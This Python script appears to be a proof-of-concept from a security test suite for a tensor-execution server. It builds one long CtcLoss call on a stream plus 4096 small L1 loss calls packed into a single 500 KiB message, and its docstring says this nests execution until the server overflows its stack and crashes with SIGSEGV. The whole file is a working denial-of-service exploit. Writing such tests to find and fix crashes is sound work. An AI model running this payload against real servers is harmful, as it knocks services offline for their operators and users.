"""One long call on a stream, and 4096 calls beside it in one message, each just above what a network thread runs
itself: they run between the long one's chunks, on the same stack, and if they have chunks of their own, in each
other's.

Cost: one message of 500 KiB. Before: stack overflow, SIGSEGV.
"""

import wire
from attack import Attack, Target, run
from sessions import Session

STEPS, SAMPLES, LABELS = 400, 64, 100


def ctc() -> bytes:
    return wire.call(
        "CtcLoss",
        [
            wire.repeated("log_probs", [STEPS, SAMPLES, 40], raw=0),
            wire.repeated("targets", [SAMPLES, LABELS], wire.INT64, raw=1),
        ],
        input_lengths=[STEPS] * SAMPLES,
        target_lengths=[LABELS] * SAMPLES,
    )


def recurse(stream: int):
    def attack(target: Target) -> None:
        session = Session(target.connect()).begin()
        on_stream = wire.field(3, 1)
        for elements in (100_000, 100_000, 130_000):
            session.send(wire.EXECUTE, wire.field(1, ctc()) + on_stream, [wire.floats(0.0), bytes(8)])
            losses = [wire.field(1, wire.l1_loss([elements], 1, first_raw=i)) for i in range(4096)]
            commands = [session.command(wire.EXECUTE, loss + (on_stream if stream else b"")) for loss in losses]
            session.await_answers(session.send_group(commands, [wire.floats(1.0)] * 4096), 20)

    return attack


if __name__ == "__main__":
    run(Attack([recurse(0)]))
